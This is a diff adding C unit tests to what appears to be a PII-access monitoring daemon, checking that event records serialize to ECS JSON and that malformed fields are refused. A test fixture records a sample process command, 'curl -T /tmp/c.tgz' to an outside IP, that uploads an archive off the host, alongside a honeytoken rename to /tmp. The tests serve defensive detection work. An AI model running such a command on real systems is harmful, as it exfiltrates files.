@@ -360,6 +360,206 @@ static void test_alert_roundtrip(void **state)
 	free(line);
 }
 
+static void fill_event(struct pw_event_rec *e, const char *kind)
+{
+	memset(e, 0, sizeof(*e));
+	e->kind = kind;
+	e->action = kind;
+	e->ts_ns = 1795578909552106404ULL;
+	e->session_id = 42;
+	e->audit_session = 17;
+	e->loginuid = 1001;
+	e->uid = 0;
+	e->pid = 5301;
+	e->ppid = 5290;
+	e->user = "田中";
+	e->comm = "curl";
+	e->exe = "/usr/bin/curl";
+	e->args = "curl -T /tmp/c.tgz https://198.51.100.9/";
+}
+
+static void assert_event_equal(const struct pw_event_rec *x, const struct pw_event_rec *y)
+{
+	assert_string_equal(x->kind, y->kind);
+	assert_str_or_null_equal(x->action, y->action);
+	assert_true(x->ts_ns == y->ts_ns);
+	assert_true(x->session_id == y->session_id);
+	assert_int_equal(x->audit_session, y->audit_session);
+	assert_int_equal(x->loginuid, y->loginuid);
+	assert_int_equal(x->uid, y->uid);
+	assert_int_equal(x->pid, y->pid);
+	assert_int_equal(x->ppid, y->ppid);
+	assert_str_or_null_equal(x->user, y->user);
+	assert_str_or_null_equal(x->comm, y->comm);
+	assert_str_or_null_equal(x->exe, y->exe);
+	assert_str_or_null_equal(x->args, y->args);
+	assert_str_or_null_equal(x->dataset, y->dataset);
+	assert_str_or_null_equal(x->path, y->path);
+	assert_str_or_null_equal(x->path2, y->path2);
+	assert_str_or_null_equal(x->dest_ip, y->dest_ip);
+	assert_int_equal(x->dest_port, y->dest_port);
+	assert_true(x->result == y->result);
+	assert_true(x->access_id == y->access_id);
+	assert_true(x->count == y->count);
+	assert_int_equal(x->honeytoken, y->honeytoken);
+}
+
+static void roundtrip_event(const struct pw_event_rec *in)
+{
+	struct pw_ecs_record rec;
+	char err[256] = "";
+	char *line = line_of(pw_ecs_from_event(in, "dms01", BOOT));
+
+	if (pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)))
+		fail_msg("%s: %s", err, line);
+	assert_int_equal(rec.kind, PW_ECS_EVENT);
+	assert_string_equal(rec.boot_id, BOOT);
+	assert_event_equal(in, &rec.event);
+	pw_ecs_record_free(&rec);
+	free(line);
+}
+
+/* Every kind of event reads back into the record it was written from. */
+static void test_event_roundtrip(void **state)
+{
+	struct pw_event_rec e;
+	json_object *o;
+
+	fill_event(&e, "connect");
+	e.dest_ip = "198.51.100.9";
+	e.dest_port = 443;
+	e.result = -115;
+	o = pw_ecs_from_event(&e, NULL, BOOT);
+	assert_string_equal(str_at(o, "event.category"), "[ \"network\" ]");
+	assert_string_equal(str_at(o, "event.outcome"), "unknown");
+	assert_string_equal(str_at(o, "piiwatch.kind"), "connect");
+	json_object_put(o);
+	roundtrip_event(&e);
+	e.dest_ip = "2001:db8::9";
+	roundtrip_event(&e);
+
+	fill_event(&e, "change");
+	e.action = "rename";
+	e.dataset = "customers";
+	e.path = "/srv/dms/customers/zz_vip.csv";
+	e.path2 = "zz_vip.csv -> /tmp/x";
+	e.honeytoken = true;
+	roundtrip_event(&e);
+
+	fill_event(&e, "exec");
+	e.loginuid = PW_NO_ID;
+	e.audit_session = PW_NO_ID;
+	e.session_id = 0;
+	e.user = NULL;
+	roundtrip_event(&e);
+
+	fill_event(&e, "mmap");
+	e.access_id = 18446744073709551614ULL;
+	e.count = 1 << 20;
+	e.dataset = "customers";
+	roundtrip_event(&e);
+
+	fill_event(&e, "io_uring");
+	e.action = "submit";
+	e.result = 18;
+	roundtrip_event(&e);
+
+	fill_event(&e, "loss");
+	e.action = "ring-full";
+	e.count = 1234;
+	e.exe = e.args = e.user = NULL;
+	e.comm = "piiwatchd";
+	o = pw_ecs_from_event(&e, NULL, BOOT);
+	assert_string_equal(str_at(o, "event.category"), "[ \"host\" ]");
+	assert_string_equal(str_at(o, "piiwatch.count"), "1234");
+	json_object_put(o);
+	roundtrip_event(&e);
+}
+
+/* A session record carries its row in the store when the daemon knows it. */
+static void test_session_row(void **state)
+{
+	struct pw_session_record r;
+	struct pw_ecs_record rec;
+	char err[256], *line;
+
+	fill_session(&r);
+	line = line_of(pw_ecs_from_session_row(&r, 42, NULL));
+	assert_int_equal(pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)), 0);
+	assert_true(rec.session_id == 42);
+	free(line);
+	line = line_of(pw_ecs_from_session(&r, NULL));
+	assert_int_equal(pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)), 0);
+	assert_true(rec.session_id == 0);
+	assert_null(strstr(line, "session_id"));
+	free(line);
+}
+
+/* As expect_mutation_error() for an event line. */
+static void expect_event_error(const char *path, const char *json_value, const char *needle)
+{
+	struct pw_event_rec e;
+	struct pw_ecs_record rec;
+	json_object *root, *parent, *val;
+	char buf[128], *dot, *key, *line;
+	char err[256] = "";
+
+	fill_event(&e, "connect");
+	e.dest_ip = "198.51.100.9";
+	e.dest_port = 443;
+	root = pw_ecs_from_event(&e, "dms01", BOOT);
+	snprintf(buf, sizeof(buf), "%s", path);
+	parent = root;
+	key = buf;
+	while ((dot = strchr(key, '.')) != NULL) {
+		*dot = '\0';
+		if (!json_object_object_get_ex(parent, key, &val)) {
+			val = json_object_new_object();
+			json_object_object_add(parent, key, val);
+		}
+		parent = val;
+		key = dot + 1;
+	}
+	if (json_value)
+		json_object_object_add(parent, key, json_tokener_parse(json_value));
+	else
+		json_object_object_del(parent, key);
+	line = line_of(root);
+	if (pw_ecs_parse_line(line, strlen(line), &rec, err, sizeof(err)) == 0) {
+		pw_ecs_record_free(&rec);
+		fail_msg("accepted %s=%s", path, json_value ? json_value : "(removed)");
+	}
+	if (!strstr(err, needle))
+		fail_msg("error '%s' does not mention '%s' for %s=%s", err, needle, path,
+			 json_value ? json_value : "(removed)");
+	free(line);
+}
+
+static void test_hostile_event_fields(void **state)
+{
+	expect_event_error("piiwatch.kind", "\"weather\"", "'piiwatch.kind' must be change");
+	expect_event_error("piiwatch.kind", NULL, "'piiwatch.kind' is missing");
+	expect_event_error("event.kind", "\"alert\"", "'event.kind' must be \"event\"");
+	expect_event_error("event.action", "\"Rename Now\"", "'event.action' must be");
+	expect_event_error("host.boot.id", NULL, "'host.boot.id' is missing");
+	expect_event_error("@timestamp", "\"yesterday\"", "'@timestamp' must be a UTC time");
+	expect_event_error("destination.ip", "\"198.51.100.300\"", "'destination.ip' must be");
+	expect_event_error("destination.ip", "\"evil.example\"", "'destination.ip' must be");
+	expect_event_error("destination.port", "70000", "'destination.port' is out of range");
+	expect_event_error("piiwatch.result", "\"-1\"", "'piiwatch.result' must be an integer");
+	expect_event_error("piiwatch.result", NULL, "'piiwatch.result' is missing");
+	expect_event_error("piiwatch.result", "9223372036854775808", "'piiwatch.result' is out");
+	expect_event_error("piiwatch.count", "-5", "'piiwatch.count' is out of range");
+	expect_event_error("piiwatch.honeytoken", "1", "'piiwatch.honeytoken' must be a boolean");
+	expect_event_error("piiwatch.audit_session", "4294967295", "'piiwatch.audit_session'");
+	expect_event_error("piiwatch.session_id", "-1", "'piiwatch.session_id' is out of range");
+	expect_event_error("process.pid", "4294967296", "'process.pid' is out of range");
+	expect_event_error("process.user.id", "\"0x0\"", "'process.user.id' must be");
+	expect_event_error("process.name", "\"seventeen-chars-x\"", "'process.name' is longer");
+	expect_event_error("file.path", "\"/a\\u0001b\"", "'file.path' holds control characters");
+	expect_event_error("user.name", "[\"x\"]", "'user.name' must be a string");
+}
+
 /* Take a good access line, set (or with value NULL remove) one field, and
  * expect the parser to refuse it naming the field. */
 static void expect_mutation_error(const char *path, const char *json_value, const char *needle)
@@ -538,7 +738,7 @@ static void test_doc_examples_parse(void **state)
 	char *buf = NULL, err[256];
 	size_t cap = 0;
 	ssize_t n;
-	int seen[4] = { 0 };
+	int seen[PW_ECS_EVENT + 1] = { 0 };
 
 	if (!f)
 		skip();
@@ -557,6 +757,7 @@ static void test_doc_examples_parse(void **state)
 	assert_true(seen[PW_ECS_ACCESS] >= 1);
 	assert_true(seen[PW_ECS_SESSION] >= 1);
 	assert_true(seen[PW_ECS_ALERT] >= 1);
+	assert_true(seen[PW_ECS_EVENT] >= 1);
 }
 
 int main(void)
@@ -567,6 +768,9 @@ int main(void)
 		cmocka_unit_test(test_unclean_strings_escaped),
 		cmocka_unit_test(test_session_roundtrip),
 		cmocka_unit_test(test_alert_roundtrip),
+		cmocka_unit_test(test_event_roundtrip),
+		cmocka_unit_test(test_session_row),
+		cmocka_unit_test(test_hostile_event_fields),
 		cmocka_unit_test(test_hostile_fields),
 		cmocka_unit_test(test_hostile_lines),
 		cmocka_unit_test(test_doc_examples_parse),
